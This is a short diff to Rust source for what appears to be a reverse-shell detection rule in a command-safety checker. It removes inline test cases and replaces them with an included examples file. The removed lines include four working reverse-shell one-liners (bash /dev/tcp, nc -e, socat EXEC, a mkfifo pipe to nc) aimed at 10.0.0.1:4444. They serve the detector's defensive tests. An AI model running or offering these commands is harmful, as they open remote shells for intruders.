@@ -16,18 +16,7 @@ pub(super) static RULE: Rule = Rule {
             check,
         ),
     ],
-    matches: &[
-        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
-        "nc -e /bin/sh 10.0.0.1 4444",
-        "socat TCP:10.0.0.1:4444 EXEC:/bin/bash",
-        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
-    ],
-    passes: &[
-        "nc -zv localhost 5432",
-        "socat - TCP:localhost:80",
-        r#"bash -c "echo hi""#,
-        "openssl s_client -connect e.com:443",
-    ],
+    examples: include_str!("reverse_shell.txt"),
     ..Rule::ASK
 };
 
